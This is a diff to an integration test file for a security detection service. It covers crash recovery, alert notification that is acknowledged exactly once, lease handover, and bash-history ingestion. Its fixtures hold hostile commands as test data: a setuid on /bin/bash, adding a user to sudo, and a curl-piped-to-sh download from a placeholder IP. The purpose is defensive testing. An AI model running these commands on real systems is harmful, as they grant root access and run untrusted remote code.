@@ -5,8 +5,9 @@
  * receiver counting notifications:
  * - `--once` twice adds nothing (no alert, no notification);
  * - a late event (old @timestamp, ingested after a pass) is caught by the next pass;
- * - SIGKILL in the middle of a pass (alerts written, notification in flight,
- *   checkpoint not moved), then a restart: each alert once, no notification twice;
+ * - SIGKILL between an alert's creation and its notification (alerts written and
+ *   pending, a notification in flight, checkpoint not moved), then a restart: each
+ *   alert once, each notified after the restart and acknowledged exactly once;
  * - two instances at once: one alert and one notification per match;
  * - the lease moves to the standby when its holder stops renewing (SIGKILL);
  * - `rules status --json` shows per rule last pass, lag, events, alerts;
@@ -50,6 +51,8 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
   const children = new Set<ChildProcess>();
   /** Alert ids in notifications received, in order. */
   let notified: string[] = [];
+  /** Alert ids in notifications answered 200 (the sender saw them delivered), in order. */
+  let acked: string[] = [];
   /** When set, the next request is held unanswered and this runs. */
   let onHold: (() => void) | undefined;
   const held: http.ServerResponse[] = [];
@@ -70,6 +73,7 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
           f();
           return;
         }
+        acked.push(...msg.alerts.map((a) => a.id));
         res.end('{}');
       });
     });
@@ -125,10 +129,10 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
   }
 
   /** Alert ids in the namespace, with the source event ids each covers. */
-  async function alerts(ns: string): Promise<Array<{ id: string; rule: string; sources: string[] }>> {
+  async function alerts(ns: string): Promise<Array<{ id: string; rule: string; sources: string[]; notification: string | undefined }>> {
     await es.indices.refresh({ index: streamName('alerts', ns), ignore_unavailable: true });
-    const res = await es.search<{ rule: { id: string }; auditkit: { alert: { source_event_ids: string[] } } }>({ index: streamName('alerts', ns), size: 1000, ignore_unavailable: true });
-    return res.hits.hits.map((h) => ({ id: h._id as string, rule: h._source?.rule.id ?? '', sources: h._source?.auditkit.alert.source_event_ids ?? [] }));
+    const res = await es.search<{ rule: { id: string }; auditkit: { alert: { source_event_ids: string[]; notification?: string } } }>({ index: streamName('alerts', ns), size: 1000, ignore_unavailable: true });
+    return res.hits.hits.map((h) => ({ id: h._id as string, rule: h._source?.rule.id ?? '', sources: h._source?.auditkit.alert.source_event_ids ?? [], notification: h._source?.auditkit.alert.notification }));
   }
 
   const once = async (cfg: string, extra: string[] = []): Promise<Pass> => {
@@ -148,7 +152,8 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
   }
 
   const lease = async (ns: string): Promise<{ holder: string; live: boolean } | undefined> => {
-    const r = await es.get<{ holder: string; expires: string }>({ index: DETECT_STATE_INDEX, id: `lease:${ns}` }, { ignore: [404] });
+    // 503 while the state index is being created by the service's first write (its shard not yet started).
+    const r = await es.get<{ holder: string; expires: string }>({ index: DETECT_STATE_INDEX, id: `lease:${ns}` }, { ignore: [404, 503] });
     return r._source ? { holder: r._source.holder, live: Date.parse(r._source.expires) > Date.now() } : undefined;
   };
 
@@ -219,34 +224,42 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
     expect(table.stdout).toMatch(/ak-lnx-setuid-bit-set/);
   }, 240_000);
 
-  it('a SIGKILL in the middle of a pass, then a restart: each alert once, no notification twice', async () => {
+  it('a SIGKILL between an alert\'s creation and its notification, then a restart: each alert once, each notified (at least once, acknowledged once)', async () => {
     notified = [];
+    acked = [];
     const { ns, cfg } = config('kill', '4s');
     await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-a`, timestamp: ago(60_000) }), commandEvent('usermod -aG sudo mallory', { id: `${ns}-b`, timestamp: ago(30_000) })]);
     const c = start(['--config', cfg, 'rules', 'run', '--once', '--json']);
     // The first notification is held unanswered and the process killed: its alerts are
-    // written, its checkpoints not (they move only after delivery).
+    // written (pending), none is marked sent, no checkpoint moved.
     onHold = () => c.kill('SIGKILL');
     await exited(c);
     expect(c.signalCode).toBe('SIGKILL');
     const before = await alerts(ns);
-    expect(before.length).toBeGreaterThanOrEqual(1);
+    expect(before.length).toBeGreaterThanOrEqual(2);
+    expect(before.map((a) => a.notification)).toEqual(before.map(() => 'pending'));
     const st = await es.search({ index: DETECT_STATE_INDEX, query: { bool: { filter: [{ term: { namespace: ns } }, { term: { kind: 'checkpoint' } }] } }, ignore_unavailable: true });
     expect(st.hits.hits).toEqual([]); // no checkpoint moved
-    const got = notified.length;
+    expect(acked).toEqual([]); // nothing acknowledged before the kill
+    const heldIds = notified.slice();
 
     const rerun = await onceWhenFree(cfg); // the killed holder's lease expires after lease_ttl
-    expect(rerun).toMatchObject({ ran: true, errors: [] });
+    expect(rerun).toMatchObject({ ran: true, errors: [], notified: before.length });
     const after = await alerts(ns);
     // Every match has exactly one alert (the pass ran its window again: 409s, no new ids).
-    expect(after.map((a) => a.id).sort()).toEqual(expect.arrayContaining(before.map((a) => a.id).sort()));
-    const keys = after.map((a) => `${a.rule}|${a.sources.join(',')}`);
-    expect(dupes(keys)).toEqual([]);
-    expect(rerun.existing).toBe(before.length);
-    expect(rerun.created).toBe(after.length - before.length);
+    expect(after.map((a) => a.id).sort()).toEqual(before.map((a) => a.id).sort());
+    expect(dupes(after.map((a) => `${a.rule}|${a.sources.join(',')}`))).toEqual([]);
+    expect(rerun).toMatchObject({ existing: before.length, created: 0 });
+    // Each alert was notified after the restart, exactly once: the ones never sent, and the
+    // one in flight at the kill again (at least once, the same alert id).
+    expect(acked.slice().sort()).toEqual(after.map((a) => a.id).sort());
+    expect(notified.filter((id) => !heldIds.includes(id)).sort()).toEqual(after.map((a) => a.id).filter((id) => !heldIds.includes(id)).sort());
+    expect(after.map((a) => a.notification)).toEqual(after.map(() => 'sent'));
+    // A third pass notifies nothing again.
+    const third = await once(cfg);
+    expect(third).toMatchObject({ ran: true, created: 0, notified: 0 });
     await new Promise((r) => setTimeout(r, 500));
-    expect(dupes(notified)).toEqual([]);
-    expect(notified.length).toBe(got + rerun.created);
+    expect(dupes(acked)).toEqual([]);
   }, 150_000);
 
   it('two instances at once: one alert and one notification per match', async () => {
@@ -274,7 +287,7 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
     // Both running: an event raises one alert, notified once.
     await write(ns, [commandEvent('chmod u+s /bin/bash', { id: `${ns}-1`, timestamp: ago(5_000) })]);
     await until('the first alert', async () => (await alerts(ns)).length >= 1, 30_000);
-    // (Killed before its notification went out, A's alert would never be notified: at most once.)
+    // (Killed before its notification went out, A's alert stays pending and B notifies it: at least once.)
     await until('its notification', async () => notified.length >= (await alerts(ns)).length, 30_000);
     A.kill('SIGKILL');
     await exited(A);
@@ -290,6 +303,20 @@ d('the detection service (rules run --once/--every) and ingest detection', () =>
     expect(notified.slice().sort()).toEqual(a.map((x) => x.id).sort());
     expect(await lease(ns)).toEqual({ holder: 'standby-b', live: false }); // SIGTERM gives it up
   }, 150_000);
+
+  it('ingest of a bash history says where its user came from (text and --json), as the records do', async () => {
+    const hist = path.join(dir, 'bash_history');
+    fs.writeFileSync(hist, '#1700000000\nls -la\n#1700000005\ncurl -fsSL http://203.0.113.9/x.sh | sh\n');
+    const owner = (await import('node:os')).userInfo().username;
+    const text = await runCli(['ingest', hist, '--format', 'bash', '--stdout']);
+    expect(text.code).toBe(0);
+    const recs = text.stdout.trim().split('\n').map((l) => JSON.parse(l) as { user?: { name?: string }; auditkit?: { history?: { user_from?: string } } });
+    expect(recs.map((r) => [r.user?.name, r.auditkit?.history?.user_from])).toEqual([[owner, 'owner'], [owner, 'owner']]);
+    expect(text.stderr).toContain(`history ${hist}: user ${owner}, from the file's owner`);
+    const json = await runCli(['ingest', hist, '--format', 'bash', '--stdout', '--json']);
+    expect(json.code).toBe(0);
+    expect(JSON.parse(json.stderr.trim().split('\n').pop() as string)).toMatchObject({ parsed: 2, history_users: [{ file: hist, user: owner, from: 'owner' }] });
+  }, 60_000);
 
   it('ingest raises the alerts of a backfilled legacy log (and the day\'s report lists them); --no-rules raises none', async () => {
     const log = path.join(dir, 'legacy.log');
